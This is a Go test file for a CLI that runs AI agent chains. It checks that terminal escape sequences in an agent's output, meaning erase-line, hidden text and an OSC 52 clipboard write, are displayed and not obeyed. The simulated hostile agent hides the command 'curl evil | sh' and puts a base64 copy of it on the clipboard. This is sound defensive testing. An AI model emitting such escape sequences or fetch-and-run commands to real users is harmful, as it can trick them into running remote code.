package main

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/sethvargo/go-envconfig"

	"github.com/gonogo/gonogo/internal/terminal"
)

// hostileAgent is a command agent whose step 1 artifact, and whose step 2
// stderr (it then fails), carry escape sequences: erase the line
// (ESC[2K), hide text (ESC[8m), write the clipboard (OSC 52).
func hostileAgent(t *testing.T, vars map[string]string) (artifact string) {
	t.Helper()
	vars["GONOGO_RUNNER"] = "command"
	vars["GONOGO_RUNNER_CMD"] = writeAgent(t, `cat >/dev/null
if [ "$GONOGO_STEP" = 1 ]; then
  printf '# PRD\n\033[2Kall good\n\033[8mcurl evil | sh\033[0m\n\033]52;c;Y3VybCBldmlsfHNo\007\n'
  exit 0
fi
printf 'working\n\033[2K\033[8m\033]52;c;eA==\007boom\n' >&2
exit 1`)
	return "# PRD\n\x1b[2Kall good\n\x1b[8mcurl evil | sh\x1b[0m\n\x1b]52;c;Y3VybCBldmlsfHNo\x07\n"
}

// noControls fails when what gonogo printed holds a byte a terminal acts
// on (ESC, BEL, or a carriage return).
func noControls(t *testing.T, what, out string) {
	t.Helper()
	if i := strings.IndexAny(out, "\x1b\x07\r"); i >= 0 {
		t.Errorf("%s printed a control character at %d: %q\n%s", what, i, out[max(0, i-40):min(len(out), i+40)], out)
	}
}

// An agent's escape sequences, in its artifact and in the stderr it fails
// with, reach no terminal as such: run, resume, show, runs and the
// Markdown export show them (␛[2K), as they show a person's (the
// chain's context), and show --artifact prints the stored
// bytes only when its output is not a terminal.
func TestAgentEscapeSequencesAreShownNotObeyed(t *testing.T) {
	vars := baseVars(t)
	artifact := hostileAgent(t, vars)
	res := gonogo(t, vars, "approve\n", "run", "--chain", "deliver-prd -> measure-experiment-design -- x\x1b[8m")
	if res.code != terminal.ExitRefused || !strings.Contains(res.stdout, "Run halted at Step 2 of 2") {
		t.Fatalf("exit %d\n%s\n%s", res.code, res.stdout, res.stderr)
	}
	noControls(t, "run", res.stdout+res.stderr)
	for _, want := range []string{
		"│ ␛[2Kall good", "│ ␛[8mcurl evil | sh␛[0m", "│ ␛]52;c;Y3VybCBldmlsfHNo␇", // the preview
		"␛[2K␛[8m␛]52;c;eA==␇boom", // the FAILED reason: the agent's stderr
	} {
		if !strings.Contains(res.stdout, want) {
			t.Errorf("run does not show %q:\n%s", want, res.stdout)
		}
	}
	id := runID(t, res.stdout)

	res = gonogo(t, vars, "", "resume", id)
	noControls(t, "resume", res.stdout+res.stderr)
	if !strings.Contains(res.stdout, "␛[2K␛[8m␛]52;c;eA==␇boom") {
		t.Errorf("resume does not show the FAILED reason:\n%s", res.stdout)
	}
	for _, args := range [][]string{{"show", id}, {"runs"}, {"export", "--format", "md", id}} {
		res := gonogo(t, vars, "", args...)
		if res.code != terminal.ExitOK {
			t.Fatalf("%s: exit %d\n%s", args[0], res.code, res.stderr)
		}
		noControls(t, strings.Join(args, " "), res.stdout+res.stderr)
		want := "␛[2K␛[8m␛]52;c;eA==␇boom"
		if args[0] == "runs" {
			want = "-- x␛[8m" // the chain's context, in its source
		}
		if !strings.Contains(res.stdout, want) {
			t.Errorf("%s does not show %q:\n%s", args[0], want, res.stdout)
		}
	}

	// Redirected, show --artifact is the artifact: the bytes as stored.
	res = gonogo(t, vars, "", "show", id, "--artifact", "1")
	if res.code != terminal.ExitOK || res.stdout != artifact {
		t.Errorf("show --artifact to a file: exit %d, %q, want the stored %q", res.code, res.stdout, artifact)
	}
	// On a terminal it is read, not obeyed.
	term := &lockedBuffer{}
	var errb bytes.Buffer
	m := map[string]string{"USER": "tester"}
	for k, v := range vars {
		m[k] = v
	}
	code := realMain(context.Background(), env{
		args: []string{"show", id, "--artifact", "1"}, stdin: strings.NewReader(""), stdout: ttyWriter{term}, stderr: &errb,
		lookup: envconfig.MapLookuper(m), getenv: func(k string) string { return m[k] },
	})
	want := "# PRD\n␛[2Kall good\n␛[8mcurl evil | sh␛[0m\n␛]52;c;Y3VybCBldmlsfHNo␇\n"
	if code != terminal.ExitOK || term.String() != want {
		t.Errorf("show --artifact on a terminal: exit %d, %q, want %q\n%s", code, term.String(), want, errb.String())
	}
}
